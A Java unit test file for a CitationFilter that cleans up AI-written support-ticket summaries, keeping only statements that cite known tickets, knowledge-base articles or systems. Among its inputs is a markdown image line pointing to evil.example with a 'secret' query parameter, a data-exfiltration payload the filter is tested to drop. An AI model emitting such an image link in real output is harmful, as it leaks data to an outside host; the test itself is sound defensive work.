package io.cemfleet.enhancement.synthesis;

import static io.cemfleet.enhancement.StageFixtures.context;
import static io.cemfleet.enhancement.StageFixtures.ticket;
import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CitationFilterTest {
    private final CitationFilter backed =
            new CitationFilter(PromptSource.of(ticket("Server is slow, see https://evil.example/x"), context()), 500);

    @Test
    void sentencesThatCiteAreKeptUnderOurSections() {
        assertThat(
                        backed.of(
                                """
                        Here is what I found:
                        ## Similar Tickets
                        1. The backup made it slow. [T1]
                        * Pages loaded slowly before [T2].
                        ### My Thoughts
                        ### Recommended Next Steps
                        - Check the backup window. [K1, T1]
                        - Traffic moves already. [N1]
                        """))
                .isEqualTo(
                        """
                        ### Similar Tickets
                        - The backup made it slow. [TKT-11111]
                        - Pages loaded slowly before [TKT-22222].

                        ### Recommended Next Steps
                        - Check the backup window. [KB 42, TKT-11111]
                        - Traffic moves already. [INC-2026-0001]""");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "- Restart the server.",
                "- Restart the server. [T9]",
                "- Restart the server. [T1, T9]",
                "- Restart the server. [TKT-99999]",
                "- [T1]",
                "- See https://evil.example/x [T1]",
                "- See https://evil.example/x, as you wrote. [R1]",
                "- ![x](https://evil.example/?q=secret)",
                "Restart the server\n[T1]"
            })
    void aStatementThatNoSourceBacksIsDropped(String statement) {
        assertThat(backed.of("### Recommended Next Steps\n" + statement)).isEmpty();
    }

    @Test
    void ofALineOnlyTheSentencesThatCiteAreKept() {
        assertThat(backed.of("### Similar Tickets\n- It was the backup. Buy new servers now! Move it to 3.30 am. [T1]"))
                .isEqualTo("### Similar Tickets\n- Move it to 3.30 am. [TKT-11111]");
    }

    @Test
    void linksLoseTheirTargetAndSectionsWithoutAStatementGo() {
        assertThat(
                        backed.of(
                                "### Relevant Documentation\n- Nothing.\n### System Information\n- It is [the server](http://x.example) of the web. [S1]"))
                .isEqualTo("### System Information\n- It is the server of the web. [server-prod-01]");
    }

    @Test
    void theTicketItselfIsASource() {
        assertThat(backed.of("### Recommended Next Steps\n- Find out since when the server is slow. [R1]"))
                .isEqualTo("### Recommended Next Steps\n- Find out since when the server is slow. [TKT-12345]");
    }

    @Test
    void onlyWhatStandsBelowOurHeadingsIsTaken() {
        assertThat(backed.of("The backup made it slow. [T1]\n### Draft\n- The backup made it slow. [T1]"))
                .isEmpty();
    }

    @Test
    void aSectionThatIsWrittenAgainReplacesItsDraft() {
        assertThat(backed.of("### Similar Tickets\n- Perhaps disks. [T2]\n### Similar Tickets\n- The backup. [T1]"))
                .isEqualTo("### Similar Tickets\n- The backup. [TKT-11111]");
    }
}
